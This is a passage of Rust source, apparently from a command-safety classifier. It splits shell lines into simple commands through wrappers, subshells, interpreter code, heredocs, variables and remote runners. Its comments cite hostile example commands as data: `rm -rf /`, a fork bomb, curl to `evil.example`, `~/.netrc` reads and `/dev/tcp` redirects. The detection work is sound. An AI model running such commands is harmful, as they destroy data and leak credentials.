//! Splits a command line into the simple commands a shell would run, so
//! rules see `rm -rf /` inside `echo ok && rm -rf /`, `$(…)`, backticks,
//! subshells, `sh -c '…'`, `sudo env X=1 …` and `node -e "…execSync('…')"`,
//! while quoted words, heredoc bodies and here-strings stay data.
//!
//! This is a classifier's tokenizer, not a shell: where the input is
//! ambiguous it errs towards finding a command.

use super::{parameters, working_dir};

/// One simple command: the program (basename) and its arguments.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SimpleCommand {
    /// Program name without its directory (`/usr/bin/git` → `git`).
    pub program: String,
    /// Arguments after the program, quotes removed.
    pub args: Vec<String>,
    /// Inline interpreter code (`python -c`, `node -e`, …), when any.
    pub code: Option<String>,
    /// Variable assignments in front of it (`LD_PRELOAD=x cmd`, `env A=1 cmd`).
    pub assignments: Vec<String>,
    /// Its redirections, targets as written (`> /etc/x`, `< ~/.netrc`).
    pub redirects: Vec<Redirect>,
    /// Heredoc and here-string bodies it reads (SQL for `psql`, …).
    pub input: Vec<String>,
    /// A call of the function whose body it is in, which calls itself more
    /// than once (`:(){ :|:& };:`): every call doubles the processes.
    pub forks_itself: bool,
    /// Its output is piped into the next command of the line (`a | b`).
    pub pipes_on: bool,
}

/// One redirection of a simple command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirect {
    /// `>`, `>>`, `&>`, `>|`: the target is written; `<`: read.
    pub write: bool,
    /// The file (or `/dev/tcp/…`) redirected to or from.
    pub target: String,
}

impl SimpleCommand {
    fn new(program: String, args: Vec<String>) -> SimpleCommand {
        SimpleCommand {
            program,
            args,
            code: None,
            assignments: Vec::new(),
            redirects: Vec::new(),
            input: Vec::new(),
            forks_itself: false,
            pipes_on: false,
        }
    }

    /// Arguments that are not options (`-x`, `--long`).
    pub fn positional(&self) -> impl Iterator<Item = &str> {
        let mut options_done = false;
        self.args.iter().filter_map(move |a| {
            if options_done {
                return Some(a.as_str());
            }
            if a == "--" {
                options_done = true;
                return None;
            }
            (!a.starts_with('-') || a == "-").then_some(a.as_str())
        })
    }

    /// The program and arguments joined by spaces.
    pub fn line(&self) -> String {
        let mut s = String::with_capacity(self.line_len());
        self.write_line(&mut s);
        s
    }

    /// The length of [`SimpleCommand::line`].
    pub fn line_len(&self) -> usize {
        self.program.len() + self.args.iter().map(|a| a.len() + 1).sum::<usize>()
    }

    /// Appends the program and arguments joined by spaces to `out` (sized
    /// by the caller: [`SimpleCommand::line_len`]).
    pub fn write_line(&self, out: &mut String) {
        out.push_str(&self.program);
        for a in &self.args {
            out.push(' ');
            out.push_str(a);
        }
    }
}

/// Parses `line` into every simple command it would run.
pub fn split(line: &str) -> Vec<SimpleCommand> {
    let mut out = Vec::with_capacity(6);
    split_into(line, &mut out);
    out
}

/// Appends every simple command `line` would run to `out`.
pub fn split_into(line: &str, out: &mut Vec<SimpleCommand>) {
    if has_foreign_line_break(line) {
        // A tool that splits lines on `\r` (or another break) runs each
        // piece as a line, quotes and all: judge that reading too. (Nested
        // scripts are made of this line's bytes, so this one look covers
        // them.)
        for piece in line.split(|c| c == '\n' || is_foreign_line_break(c)) {
            parse_into(piece, out, 1);
        }
    }
    parse_into(line, out, 0);
}

const MAX_DEPTH: usize = 8;

#[derive(Debug)]
enum Tok {
    Word(String),
    Sep,
    /// `|` or `|&`: the command before feeds the one after.
    Pipe,
    /// A here-string or heredoc body: data, unless the command is a shell.
    Input(String),
    /// A redirection and its target.
    Redirect(Redirect),
    /// `()` after a name: the word before names a function defined next.
    FunctionDef,
}

/// A function whose body is being read (`name() { … }`): the braces open
/// in it and where its calls of itself went in the output.
struct Definition {
    name: String,
    open: usize,
    self_calls: Vec<usize>,
}

impl Definition {
    /// Follows one command of the script (its words, and the index its
    /// commands start at in the output); returns true when the body ends.
    fn follow(&mut self, words: &[String], at: usize) -> bool {
        let count = |brace: &str| words.iter().filter(|w| *w == brace).count();
        self.open += count("{");
        let program = words.iter().find(|w| !is_assignment(w) && !is_grouping(w));
        if self.open > 0 && program.is_some_and(|p| *p == self.name) {
            self.self_calls.push(at);
        }
        let closes = count("}");
        self.open = self.open.saturating_sub(closes);
        closes > 0 && self.open == 0
    }
}

fn parse_into(line: &str, out: &mut Vec<SimpleCommand>, depth: usize) {
    if depth > MAX_DEPTH {
        return;
    }
    let mut nested = Vec::new();
    let tokens = lex(line, &mut nested);
    for inner in nested {
        parse_into(&inner, out, depth + 1);
    }
    let mut words: Vec<String> = Vec::new();
    let mut inputs: Vec<String> = Vec::new();
    let mut redirects: Vec<Redirect> = Vec::new();
    let mut vars = Variables::default();
    // What `echo …` or `printf …` prints into the next command of a pipe.
    let mut printed: Option<String> = None;
    let mut defining: Option<Definition> = None;
    let mut scripts = Scripts::default();
    // Where an earlier `cd` went, when known.
    let mut cwd: Option<String> = None;
    // Expansions with operators are rare: one look at the line.
    let operators = line.contains('$') && line.contains("${");
    for tok in tokens.into_iter().chain(std::iter::once(Tok::Sep)) {
        match tok {
            Tok::Word(w) => words.push(w),
            Tok::Input(text) => inputs.push(text),
            Tok::Redirect(r) => redirects.push(r),
            Tok::FunctionDef => {
                // `name()` (or `function name()`) defines, it does not run.
                defining = words.pop().map(|name| Definition {
                    name,
                    open: 0,
                    self_calls: Vec::new(),
                });
                words.clear();
            }
            Tok::Sep | Tok::Pipe => {
                if let Some(def) = &mut defining {
                    if def.follow(&words, out.len()) {
                        // A body that calls its own function twice or more
                        // grows without bound: a fork bomb.
                        if def.self_calls.len() > 1 {
                            for &at in &def.self_calls {
                                if let Some(cmd) = out.get_mut(at) {
                                    cmd.forks_itself = true;
                                }
                            }
                        }
                        defining = None;
                    }
                }
                // Text piped in is input, as a here-string's is
                // (`echo 'rm -rf /' | sh`, `echo '!sh' | ftp`).
                inputs.extend(printed.take());
                let mut second = if operators {
                    parameters::readings(&mut words, &mut redirects)
                } else {
                    None
                };
                vars.expand(&mut words, &mut redirects);
                if let Some((words, redirects)) = &mut second {
                    vars.expand(words, redirects);
                }
                if let Some(dir) = &cwd {
                    working_dir::in_directory(dir, &mut words);
                    if let Some((words, _)) = &mut second {
                        working_dir::in_directory(dir, words);
                    }
                }
                vars.learn(&words);
                let program = words
                    .iter()
                    .find(|w| !is_assignment(w))
                    .map(|w| basename(w));
                if let Some("cd" | "pushd" | "chdir") = program {
                    cwd = working_dir::changed_to(&words);
                }
                if matches!(tok, Tok::Pipe) {
                    printed = program.and_then(|p| printed_text(p, &words));
                }
                if let Some(script) = scripts.run_by(program, &words) {
                    // `sh x.sh`, `./x.sh`, `. x.sh` of a file written above.
                    parse_into(script, out, depth + 1);
                }
                scripts.learn(program, &words, &redirects, &inputs);
                if runs_input_as_script(program, &words) {
                    // `bash <<<'rm -rf /'`: the input is a script.
                    for script in inputs.drain(..) {
                        parse_into(&script, out, depth + 1);
                    }
                }
                if !words.is_empty() {
                    let first = out.len();
                    simple(std::mem::take(&mut words), out, depth);
                    // The redirections and input belong to the outermost
                    // command (a wrapper passes them on to what it runs).
                    let piped = matches!(tok, Tok::Pipe);
                    for cmd in &mut out[first..] {
                        cmd.redirects.extend(redirects.iter().cloned());
                        cmd.input.extend(inputs.iter().cloned());
                        cmd.pipes_on = piped;
                    }
                    // `python3 - <<EOF … EOF`: known input is the program.
                    let reader = (!inputs.is_empty())
                        .then(|| (first..out.len()).find(|&at| reads_code_from_input(&out[at])))
                        .flatten();
                    if let Some(at) = reader {
                        let code = inputs.join("\n");
                        code_commands(&code, out, depth);
                        out[at].code = Some(code);
                    }
                    // With the defaults in place (`${TARGET:-/}` is `/`
                    // when TARGET is unset): the same command again.
                    if let Some((words, redirects)) = second.take() {
                        let first = out.len();
                        simple(words, out, depth);
                        for cmd in &mut out[first..] {
                            cmd.redirects.extend(redirects.iter().cloned());
                            cmd.input.extend(inputs.iter().cloned());
                        }
                    }
                } else if !redirects.is_empty() {
                    // `> /etc/x` alone still writes the file.
                    let mut cmd = SimpleCommand::new(String::new(), Vec::new());
                    cmd.redirects = std::mem::take(&mut redirects);
                    out.push(cmd);
                }
                inputs.clear();
                redirects.clear();
            }
        }
    }
}

/// Commands inside the string literals of interpreter code
/// (`os.system('rm -rf /')`, `execSync("…")`) are commands too.
fn code_commands(code: &str, out: &mut Vec<SimpleCommand>, depth: usize) {
    for literal in string_literals(code) {
        if literal.contains(' ') {
            parse_into(&literal, out, depth + 1);
        }
    }
}

/// True when the command whose words these are runs its input as shell
/// commands: a shell; `xargs` or `parallel` starting one (`xargs -I{} sh
/// -c '{}'`); `source`/`.` of standard input.
fn runs_input_as_script(program: Option<&str>, words: &[String]) -> bool {
    match program {
        Some("xargs" | "parallel") => words.iter().any(|w| is_shell(basename(w))),
        Some("source" | ".") => words.iter().any(|w| {
            matches!(
                w.as_str(),
                "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0" | "-"
            )
        }),
        Some(p) => is_shell(p),
        None => false,
    }
}

/// True for an interpreter that reads its program from its input
/// (`python3`, `python3 -`, `perl`, `node -`): no code option, no script.
fn reads_code_from_input(cmd: &SimpleCommand) -> bool {
    cmd.code.is_none()
        && !is_shell(&cmd.program)
        && interpreter_flag(&cmd.program).is_some()
        && cmd.positional().next().is_none_or(|p| p == "-")
}

/// The text `echo` or `printf` prints (its words after the program and
/// `echo`'s options), for the command it is piped into.
fn printed_text(program: &str, words: &[String]) -> Option<String> {
    if !matches!(program, "echo" | "printf") {
        return None;
    }
    let at = words.iter().position(|w| basename(w) == program)?;
    let mut args = words[at + 1..].iter().peekable();
    let mut escapes = program == "printf";
    while let Some(option) = args
        .next_if(|w| program == "echo" && matches!(w.as_str(), "-e" | "-n" | "-E" | "-ne" | "-en"))
    {
        escapes |= option.contains('e');
    }
    let text = args.map(String::as_str).collect::<Vec<_>>().join(" ");
    // Line breaks written as `\n` are line breaks in what is printed.
    let text = if escapes {
        text.replace("\\n", "\n")
    } else {
        text
    };
    (!text.is_empty()).then_some(text)
}

/// Files a script writes with text known here (`cat > x.sh <<EOF`, `echo
/// … > x.sh`, `… | tee x.sh`), so running one later in the same script
/// (`sh x.sh`, `./x.sh`, `. x.sh`) runs that text. Bounded like
/// [`Variables`]; appends add to what is known.
#[derive(Default)]
struct Scripts {
    known: Vec<(String, String)>,
}

impl Scripts {
    const MAX_FILES: usize = 16;
    const MAX_TEXT: usize = 64 * 1024;

    /// Records the files a command writes, when it writes known text.
    fn learn(
        &mut self,
        program: Option<&str>,
        words: &[String],
        redirects: &[Redirect],
        inputs: &[String],
    ) {
        let text = match program {
            Some("cat" | "tee") if !inputs.is_empty() => inputs.join("\n"),
            Some(p @ ("echo" | "printf")) => match printed_text(p, words) {
                Some(text) => text,
                None => return,
            },
            _ => return,
        };
        let mut targets: Vec<&str> = redirects
            .iter()
            .filter(|r| r.write)
            .map(|r| r.target.as_str())
            .collect();
        if program == Some("tee") {
            let operands = words.iter().skip_while(|w| is_assignment(w)).skip(1);
            targets.extend(operands.filter(|w| !w.starts_with('-')).map(String::as_str));
        }
        for target in targets.into_iter().map(local_path) {
            let room = self.known.len() < Self::MAX_FILES;
            match self.known.iter_mut().find(|(path, _)| path == target) {
                Some((_, known)) if known.len() + text.len() <= Self::MAX_TEXT => {
                    known.push('\n');
                    known.push_str(&text);
                }
                Some(_) => {}
                None if room && text.len() <= Self::MAX_TEXT => {
                    self.known.push((target.to_owned(), text.clone()));
                }
                None => {}
            }
        }
    }

    /// The known text of the file this command runs as a script, if any.
    fn run_by(&self, program: Option<&str>, words: &[String]) -> Option<&str> {
        if self.known.is_empty() {
            return None;
        }
        let program = program?;
        let mut operands = words.iter().skip_while(|w| is_assignment(w));
        let first = operands.next()?;
        let path = if is_shell(program) || matches!(program, "source" | ".") {
            if operands.clone().any(|w| w == "-c") {
                return None;
            }
            operands.find(|w| !w.starts_with('-'))?
        } else {
            first
        };
        let path = local_path(path);
        self.known
            .iter()
            .find(|(known, _)| known == path)
            .map(|(_, text)| text.as_str())
    }
}

/// A path without its leading `./`.
fn local_path(path: &str) -> &str {
    path.strip_prefix("./").unwrap_or(path)
}

/// Variables a script sets (`H=evil.example; curl "$H"`), so later commands
/// are judged on the values they will see. Bounded: a few dozen variables
/// of at most 4 KiB each; a word is expanded once, never recursively.
#[derive(Default)]
struct Variables {
    known: Vec<(String, String)>,
}

impl Variables {
    const MAX_VARIABLES: usize = 64;
    const MAX_VALUE: usize = 4096;

    /// Records `NAME=value` words of a command that has no program, or of
    /// `export`/`readonly`/`declare`/`local`/`typeset`. A command that can
    /// set variables some other way (`read`, `source`, `eval`, a `for` loop,
    /// `printf -v`, `unset`…) makes every value unknown again, so a later
    /// `$X` is judged as a variable, never as a stale value.
    fn learn(&mut self, words: &[String]) {
        if words.iter().any(|w| {
            matches!(
                w.as_str(),
                "read"
                    | "source"
                    | "."
                    | "eval"
                    | "mapfile"
                    | "readarray"
                    | "getopts"
                    | "for"
                    | "select"
                    | "unset"
                    | "let"
                    | "set"
            )
        }) || Self::sets_by_option(words)
        {
            self.known.clear();
            return;
        }
        let setter = words.first().is_some_and(|w| {
            matches!(
                w.as_str(),
                "export" | "readonly" | "declare" | "local" | "typeset"
            )
        });
        if !setter && words.iter().any(|w| !is_assignment(w)) {
            return;
        }
        let assignments = words.iter().filter(|w| is_assignment(w));
        for (name, value) in assignments.filter_map(|w| w.split_once('=')) {
            if value.len() > Self::MAX_VALUE {
                continue;
            }
            self.known.retain(|(n, _)| n != name);
            if self.known.len() < Self::MAX_VARIABLES {
                self.known.push((name.to_owned(), value.to_owned()));
            }
        }
    }

    /// `printf -v X …`, and namerefs (`declare -n X=Y`).
    fn sets_by_option(words: &[String]) -> bool {
        let flag = |f: char| {
            words[1..]
                .iter()
                .any(|w| w.starts_with('-') && !w.starts_with("--") && w.contains(f))
        };
        match words.first().map(String::as_str) {
            Some("printf") => flag('v'),
            Some("declare" | "local" | "typeset") => flag('n'),
            _ => false,
        }
    }

    /// Replaces `$NAME` and `${NAME}` of known variables in `words` and
    /// redirection targets, and environment lookups in inline code
    /// (`ENV["NAME"]`, `ENV.fetch("NAME")`, PHP's `$_ENV["NAME"]` and
    /// `$_SERVER["NAME"]`, `getenv("NAME")`, `os.environ["NAME"]`,
    /// `$env:NAME`, `process.env.NAME`, `process.env["NAME"]`, `$ENV{NAME}`) with the quoted value
    /// the program will read: a known variable or one of the command's own
    /// prefix assignments (`F=/x python3 -c '…os.environ["F"]…'`).
    fn expand(&self, words: &mut [String], redirects: &mut [Redirect]) {
        let prefix = words.iter().take_while(|w| is_assignment(w)).count();
        if prefix > 0 || !self.known.is_empty() {
            let (assigned, rest) = words.split_at_mut(prefix);
            let lookup = |name: &str| {
                assigned
                    .iter()
                    .rev()
                    .filter_map(|w| w.split_once('='))
                    .find(|(n, _)| *n == name)
                    .map(|(_, v)| v.to_owned())
                    .or_else(|| self.value(name).map(str::to_owned))
            };
            for word in rest.iter_mut() {
                if let Some(expanded) = expand_environment_lookups(word, &lookup) {
                    *word = expanded;
                }
            }
        }
        if self.known.is_empty() {
            return;
        }
        let targets = redirects.iter_mut().map(|r| &mut r.target);
        for word in words.iter_mut().chain(targets) {
            if word.contains('$') {
                if let Some(expanded) = self.expand_word(word) {
                    *word = expanded;
                }
            }
        }
    }

    /// The value of a known variable.
    fn value(&self, name: &str) -> Option<&str> {
        self.known
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, v)| v.as_str())
    }

    fn expand_word(&self, word: &str) -> Option<String> {
        let mut out = String::with_capacity(word.len());
        let mut changed = false;
        let mut rest = word;
        while let Some(at) = rest.find('$') {
            out.push_str(&rest[..at]);
            let after = &rest[at + 1..];
            let (name, len) = match after.strip_prefix('{') {
                Some(inner) => match inner.find('}') {
                    Some(end) => (&inner[..end], end + 2),
                    None => ("", 0),
                },
                None => {
                    let end = after
                        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                        .unwrap_or(after.len());
                    (&after[..end], end)
                }
            };
            match self.known.iter().find(|(n, _)| n == name) {
                Some((_, value)) if !name.is_empty() => {
                    out.push_str(value);
                    rest = &after[len..];
                    changed = true;
                }
                _ => {
                    out.push('$');
                    rest = after;
                }
            }
        }
        out.push_str(rest);
        changed.then_some(out)
    }
}

/// Replaces environment lookups in code (`ENV["F"]`, `ENV.fetch("F")`,
/// `$_ENV["F"]`, `$_SERVER["F"]`, `getenv("F")`, `os.environ["F"]`,
/// `os.environ.get("F")`, `$env:F`, `process.env.F`, `process.env["F"]`,
/// `$ENV{F}`) whose variable `lookup` knows with its value in double
/// quotes; `None` when there is none to replace.
fn expand_environment_lookups(
    word: &str,
    lookup: &impl Fn(&str) -> Option<String>,
) -> Option<String> {
    static LOOKUP: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
    if !word.contains("env") && !word.contains("ENV") && !word.contains("environ") {
        return None;
    }
    let re = LOOKUP.get_or_init(|| {
        regex::Regex::new(
            r#"(?i:(?:\$_ENV|\$_SERVER|\bENV)\[\s*["'](\w+)["']\s*\]|\bENV\.fetch\(\s*["'](\w+)["']\s*\)|\bgetenv\(\s*["'](\w+)["']\s*\)|\b(?:os\.)?environ(?:\.get\(\s*|\[\s*)["'](\w+)["']\s*[\])]|\$env:(\w+)|\bprocess\.env(?:\.(\w+)|\[\s*["'](\w+)["']\s*\])|\$ENV\{\s*["']?(\w+)["']?\s*\})"#,
        )
        .expect("static environment lookup pattern")
    });
    let mut changed = false;
    let out = re.replace_all(word, |caps: &regex::Captures<'_>| {
        let name = caps
            .iter()
            .skip(1)
            .flatten()
            .next()
            .map_or("", |m| m.as_str());
        match lookup(name) {
            Some(value) => {
                changed = true;
                format!("\"{value}\"")
            }
            None => caps[0].to_owned(),
        }
    });
    changed.then(|| out.into_owned())
}

/// Wrappers that run their arguments as a command, with how many leading
/// option-like words they take.
pub(crate) fn is_wrapper(program: &str) -> bool {
    matches!(
        program,
        "sudo"
            | "doas"
            | "env"
            | "command"
            | "exec"
            | "nohup"
            | "time"
            | "nice"
            | "ionice"
            | "timeout"
            | "xargs"
            | "stdbuf"
            | "chroot"
            | "su"
            | "builtin"
            | "setsid"
            | "unbuffer"
            | "watch"
            | "strace"
            | "ltrace"
            | "caffeinate"
            | "rlwrap"
            | "proxychains"
            | "proxychains4"
            | "torsocks"
            | "torify"
            | "tsocks"
            | "firejail"
            | "faketime"
            | "taskset"
            | "chrt"
            | "numactl"
            | "cpulimit"
            | "flock"
            | "runuser"
    )
}

/// Programs that are shells: `-c` takes a script, input is commands. The
/// capability analysis uses the same list.
pub(crate) const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "mksh", "csh", "tcsh", "ash", "fish", "yash", "rbash",
    "rc", "busybox", "sash", "posh", "oksh", "loksh", "pdksh", "ksh93", "elvish", "xonsh", "pwsh",
];

/// A shell whose `-c` script is shell syntax (PowerShell's is not: its
/// code is handled as an interpreter's).
fn is_shell(program: &str) -> bool {
    program != "pwsh" && SHELLS.contains(&program)
}

fn interpreter_flag(program: &str) -> Option<&'static [&'static str]> {
    let base = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    match base {
        "python" | "pypy" => Some(&["-c"]),
        "node" | "nodejs" | "deno" | "bun" => Some(&["-e", "--eval", "-p", "--print"]),
        "perl" | "ruby" => Some(&["-e", "-E"]),
        // latexmk's `-e` and `-r` take Perl code and a Perl file; `-e` is code.
        "latexmk" => Some(&["-e"]),
        "php" => Some(&["-r"]),
        "osascript" | "lua" | "luajit" | "R" | "Rscript" | "groovy" | "jrunscript" | "scala"
        | "elixir" | "racket" => Some(&["-e"]),
        "julia" => Some(&["-e", "--eval", "-E", "--print"]),
        "octave" | "octave-cli" | "sbcl" => Some(&["--eval"]),
        "erl" => Some(&["-eval"]),
        "guile" => Some(&["-c"]),
        "powershell" | "pwsh" => Some(&[
            "-c",
            "-command",
            "-Command",
            "-enc",
            "-e",
            "-EncodedCommand",
            "-encodedcommand",
        ]),
        _ => None,
    }
}

/// The program's name: no directory (`/`, or `\` on Windows) and no `.exe`.
fn basename(word: &str) -> &str {
    // One pass from the end: where the name starts (after the last `/` or
    // `\`), and whether a `$` or backquote follows the last `/`.
    let b = word.as_bytes();
    let mut start = 0;
    let mut computed = false;
    for (at, &c) in b.iter().enumerate().rev() {
        match c {
            b'$' | b'`' => computed = true,
            b'/' => {
                start = start.max(at + 1);
                break;
            }
            b'\\' if start == 0 => start = at + 1,
            _ => {}
        }
    }
    if computed || start == b.len() {
        // Computed at run time (`$'\x73\x68'`, `$a$b`; not `$HOME/bin/x`),
        // or no name after the last `/`: kept whole, so the analysis sees
        // that it is not a name.
        return word;
    }
    let name = &word[start..];
    name.strip_suffix(".exe")
        .or_else(|| name.strip_suffix(".EXE"))
        .unwrap_or(name)
}

pub(super) fn is_assignment(word: &str) -> bool {
    let b = word.as_bytes();
    if !b
        .first()
        .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
    {
        return false;
    }
    for &c in &b[1..] {
        if c == b'=' {
            return true;
        }
        if !(c.is_ascii_alphanumeric() || c == b'_') {
            return false;
        }
    }
    false
}

fn simple(words: Vec<String>, out: &mut Vec<SimpleCommand>, depth: usize) {
    simple_with(words, Vec::new(), out, depth);
}

/// The command of an interactive escape (`!sh`, `:!/bin/sh`, `\\!sh`), as
/// typed at the prompt of a pager, editor, debugger or database client;
/// vi's `:shell` and `:terminal` start a shell.
fn escape_line(word: &str) -> Option<&str> {
    if let Some(ex) = word.strip_prefix(':') {
        if matches!(
            ex,
            "sh" | "she" | "shel" | "shell" | "ter" | "term" | "termi" | "terminal"
        ) {
            return Some("sh");
        }
    }
    let rest = word.trim_start_matches([':', '\\']).strip_prefix('!')?;
    (!rest.is_empty() && !rest.starts_with(['=', '!'])).then_some(rest)
}

/// Words that open or close a compound command, not programs.
fn is_grouping(word: &str) -> bool {
    matches!(
        word,
        "{" | "}" | "(" | ")" | "!" | "then" | "do" | "else" | "if" | "while" | "until" | "elif"
    )
}

/// `words` as one simple command, with `assignments` inherited from a
/// wrapper (`env A=1 cmd`); wrappers, shells and remote runners (`ssh host
/// cmd`, `docker exec c cmd`, `kubectl exec p -- cmd`, `find -exec cmd ;`)
/// add the command they run.
fn simple_with(
    mut words: Vec<String>,
    mut assignments: Vec<String>,
    out: &mut Vec<SimpleCommand>,
    depth: usize,
) {
    if depth > MAX_DEPTH {
        return;
    }
    // Leading assignments (`FOO=1 cmd`) and grouping words.
    while let Some(first) = words.first() {
        if is_assignment(first) {
            assignments.push(words.remove(0));
        } else if is_grouping(first) {
            words.remove(0);
        } else if let Some(rest) = escape_line(first) {
            // `!sh`, `:!/bin/sh`: the command line typed at a pager's,
            // editor's or debugger's prompt runs as a command.
            words[0] = rest.to_owned();
        } else {
            break;
        }
    }
    let Some(first) = words.first() else {
        if !assignments.is_empty() {
            // `RHOST=attacker.example` alone: the values are still facts.
            let mut cmd = SimpleCommand::new(String::new(), Vec::new());
            cmd.assignments = assignments;
            out.push(cmd);
        }
        return;
    };
    // The first word becomes the program (its own buffer when it is its
    // basename already); the rest, in order, are the arguments.
    let program = match basename(first) {
        name if name.len() == first.len() => words.remove(0),
        name => {
            let name = name.to_owned();
            words.remove(0);
            name
        }
    };
    let args = words;
    let command =
        |program: String, args: Vec<String>, assignments: Vec<String>, code| SimpleCommand {
            code,
            assignments,
            ..SimpleCommand::new(program, args)
        };

    if is_wrapper(&program) {
        out.push(command(
            program.clone(),
            args.clone(),
            assignments.clone(),
            None,
        ));
        // Skip the wrapper's own options and values, then treat the rest as a command.
        let mut rest = args.as_slice();
        let mut inner_assignments = assignments.clone();
        while let Some(word) = rest.first() {
            let takes_value = matches!(
                (program.as_str(), word.as_str()),
                (
                    "sudo",
                    "-u" | "-g" | "-C" | "-D" | "-r" | "-t" | "-U" | "-h" | "-p"
                ) | ("timeout", "-s" | "-k" | "--signal" | "--kill-after")
                    | ("nice", "-n")
                    | ("su", "-c")
                    | ("runuser", "-u" | "-g" | "-G" | "-s" | "-w")
                    | ("env", "-u" | "-C" | "-S")
                    | ("flock", "-w" | "-E")
                    | ("watch", "-n")
                    | (
                        "xargs",
                        "-I" | "-n" | "-P" | "-d" | "-L" | "-s" | "-a" | "-E"
                    )
                    | (
                        "rlwrap",
                        "-f" | "-H" | "-P" | "-S" | "-e" | "-p" | "-l" | "-s"
                    )
                    | ("taskset", "-c" | "-p")
                    | ("chrt", "-p")
                    | ("proxychains" | "proxychains4", "-f")
            );
            if matches!(program.as_str(), "su" | "runuser" | "flock")
                && matches!(word.as_str(), "-c" | "--command")
                || program == "env" && matches!(word.as_str(), "-S" | "--split-string")
            {
                if let Some(script) = rest.get(1) {
                    parse_into(script, out, depth + 1);
                }
                return;
            }
            if is_assignment(word) {
                inner_assignments.push(word.clone());
                rest = &rest[1..];
                continue;
            }
            if word.starts_with('-') {
                rest = &rest[if takes_value { 2.min(rest.len()) } else { 1 }..];
                continue;
            }
            if (program == "timeout" || program == "flock")
                && word.chars().next().is_some_and(|c| c.is_ascii_digit())
                || program == "flock" && word.contains('/')
            {
                rest = &rest[1..];
                continue;
            }
            break;
        }
        if !rest.is_empty() {
            simple_with(rest.to_vec(), inner_assignments, out, depth + 1);
        }
        return;
    }

    if is_shell(&program) {
        // `sh -c 'script'`, `bash -lc "…"`; `busybox sh -c …`.
        let mut i = 0;
        while i < args.len() {
            let a = &args[i];
            if a.starts_with('-') && !a.starts_with("--") && a.contains('c') {
                if let Some(script) = args.get(i + 1) {
                    parse_into(script, out, depth + 1);
                }
                break;
            }
            if program == "busybox" && !a.starts_with('-') {
                simple_with(args[i..].to_vec(), assignments.clone(), out, depth + 1);
                return;
            }
            i += 1;
        }
        out.push(command(program, args, assignments, None));
        return;
    }

    if let Some(script) = builtin_script(&program, &args) {
        parse_into(&script, out, depth + 1);
    }
    if let Some(inner) = remote_command(&program, &args) {
        // One word: a script for the remote shell; several: argv.
        match inner {
            [script] => parse_into(script, out, depth + 1),
            argv => simple_with(argv.to_vec(), Vec::new(), out, depth + 1),
        }
    }
    if let Some(script) = script_argument(&program, &args) {
        parse_into(script, out, depth + 1);
    }
    for inner in exec_options(&program, &args) {
        simple_with(inner.to_vec(), Vec::new(), out, depth + 1);
    }

    if program.eq_ignore_ascii_case("cmd") {
        // `cmd /c del /s x`: what follows `/c` (or `/k`) is a command line.
        if let Some(at) = args
            .iter()
            .position(|a| a.eq_ignore_ascii_case("/c") || a.eq_ignore_ascii_case("/k"))
        {
            parse_into(&args[at + 1..].join(" "), out, depth + 1);
        }
    }
    let mut code = None;
    if matches!(program.as_str(), "powershell" | "pwsh")
        && !args.iter().any(|a| a.starts_with('-'))
        && !args.is_empty()
    {
        // `powershell IEX (…)`: the arguments are the command.
        let line = args.join(" ");
        parse_into(&line, out, depth + 1);
        code = Some(line);
    } else if let Some(flags) = interpreter_flag(&program) {
        if let Some(pos) = args.iter().position(|a| flags.contains(&a.as_str())) {
            if let Some(src) = args.get(pos + 1) {
                if matches!(program.as_str(), "powershell" | "pwsh") {
                    // PowerShell's command line is commands (`pwsh -c
                    // "Stop-Service x"`), read as the shell's are.
                    parse_into(src, out, depth + 1);
                } else {
                    code_commands(src, out, depth);
                }
                code = Some(src.clone());
            }
        }
    }
    out.push(command(program, args, assignments, code));
}

/// Text a shell builtin runs as commands: `eval`'s words joined by spaces,
/// `trap`'s action, the bodies of `alias name='…'` (one per line).
fn builtin_script(program: &str, args: &[String]) -> Option<String> {
    let script = match program {
        "eval" => args.join(" "),
        "trap" => args
            .iter()
            .find(|a| !a.starts_with('-'))
            .filter(|_| args.len() > 1)?
            .clone(),
        "alias" => args
            .iter()
            .filter_map(|a| a.split_once('=').map(|(_, body)| body))
            .collect::<Vec<_>>()
            .join("\n"),
        _ => return None,
    };
    (!script.is_empty()).then_some(script)
}

/// Options of `program` taking a value before its operands.
fn remote_option_takes_value(program: &str, option: &str) -> bool {
    match program {
        "ssh" => {
            option.len() == 2
                && "BbcDEeFIiJLlmOoPpQRSWw".contains(option.chars().nth(1).unwrap_or(' '))
        }
        "docker" | "podman" | "nerdctl" => matches!(
            option,
            "-u" | "--user"
                | "-w"
                | "--workdir"
                | "-e"
                | "--env"
                | "--env-file"
                | "-v"
                | "--volume"
                | "-p"
                | "--publish"
                | "--name"
                | "--network"
                | "--entrypoint"
                | "--mount"
                | "--platform"
                | "-l"
                | "--label"
                | "--hostname"
                | "-h"
                | "--cap-add"
                | "--device"
                | "--pid"
                | "--detach-keys"
                | "--rm-after"
        ),
        _ => false,
    }
}

/// The command a remote runner runs: `ssh [opts] host cmd…`,
/// `docker|podman exec|run [opts] target cmd…`, `kubectl|oc exec … -- cmd…`.
fn remote_command<'a>(program: &str, args: &'a [String]) -> Option<&'a [String]> {
    let operands = |from: usize, wanted: usize| -> Option<usize> {
        // Index just past the `wanted`-th operand.
        let mut seen = 0;
        let mut i = from;
        while i < args.len() {
            let a = &args[i];
            if a.starts_with('-') && a != "-" {
                i += if !a.contains('=') && remote_option_takes_value(program, a) {
                    2
                } else {
                    1
                };
                continue;
            }
            seen += 1;
            i += 1;
            if seen == wanted {
                return Some(i);
            }
        }
        None
    };
    let rest = match program {
        "ssh" => operands(0, 1)?,
        "docker" | "podman" | "nerdctl" => {
            let sub = args.iter().position(|a| !a.starts_with('-'))?;
            match args[sub].as_str() {
                "exec" | "run" => operands(sub + 1, 1)?,
                _ => return None,
            }
        }
        "kubectl" | "oc" => {
            args.iter()
                .any(|a| a == "exec" || a == "debug")
                .then_some(())?;
            args.iter().position(|a| a == "--")? + 1
        }
        _ => return None,
    };
    let inner = &args[rest.min(args.len())..];
    (!inner.is_empty()).then_some(inner)
}

/// A command line another program hands to a shell: what a fleet tool runs
/// on many hosts (`ansible all -m shell -a 'cmd'`, `salt '*' cmd.run 'cmd'`,
